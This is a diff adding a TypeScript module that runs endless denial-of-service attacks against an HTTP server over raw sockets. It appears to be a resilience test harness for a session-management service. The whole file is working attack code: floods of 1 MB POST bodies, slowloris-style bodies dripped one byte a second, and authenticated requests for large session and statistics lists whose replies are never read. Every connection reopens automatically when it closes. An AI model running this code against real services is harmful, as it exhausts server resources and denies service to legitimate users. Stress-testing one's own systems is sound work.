@@ -1,0 +1,70 @@
+import { connect, type Socket } from 'node:net';
+
+/** What the thread of the attackers gets. */
+export interface AttackOrder {
+  readonly url: string;
+  /** For the readers that stall: a list needs a caller. */
+  readonly analystKey: string;
+  /** How many connections each attack opens. */
+  readonly connections: number;
+}
+
+/** Does its harm over one connection. The connection is opened again when it ends. */
+type Attack = (socket: Socket, order: AttackOrder) => void;
+
+const LARGE_BODY = JSON.stringify({
+  data: Array.from({ length: 75_000 }, (_, index) => `item ${index}`),
+}).slice(0, 1_000_000);
+
+const head = (...lines: string[]): string => `${lines.join('\r\n')}\r\nHost: dwell\r\n\r\n`;
+
+/** Sends a body of 1 MB without a key, and the next one as soon as there is an answer. */
+const largeBodies: Attack = (socket) => {
+  const send = (): void => {
+    socket.write(
+      head(
+        'POST /sessman/new HTTP/1.1',
+        'Content-Type: application/json',
+        `Content-Length: ${LARGE_BODY.length}`,
+      ) + LARGE_BODY,
+    );
+  };
+  socket.on('data', send);
+  send();
+};
+
+/** Sends a body without a key, one byte a second. */
+const slowBodies: Attack = (socket) => {
+  socket.write(
+    head('POST /api/v2/keepalive HTTP/1.1', 'Content-Type: application/json', 'Content-Length: 10000'),
+  );
+  const timer = setInterval(() => socket.write(' '), 1_000);
+  socket.once('close', () => {
+    clearInterval(timer);
+  });
+  socket.resume();
+};
+
+/** Asks for a list of all sessions and for statistics, and reads nothing. */
+const stalledReaders: Attack = (socket, { analystKey }) => {
+  socket.pause();
+  for (const path of ['statistics/timeline?bucket=hour', 'sessions']) {
+    socket.write(head(`GET /api/v2/${path} HTTP/1.1`, `Authorization: Bearer ${analystKey}`));
+  }
+};
+
+export const ATTACKS: readonly Attack[] = [largeBodies, slowBodies, stalledReaders];
+
+/** Runs all attacks without end. */
+export const attack = (order: AttackOrder): void => {
+  for (const each of ATTACKS) {
+    for (let index = 0; index < order.connections; index++) keepAttacking(each, order);
+  }
+};
+
+const keepAttacking = (kind: Attack, order: AttackOrder): void => {
+  const { hostname, port } = new URL(order.url);
+  const socket = connect(Number(port), hostname);
+  socket.on('error', () => undefined).once('close', () => setImmediate(keepAttacking, kind, order));
+  kind(socket, order);
+};
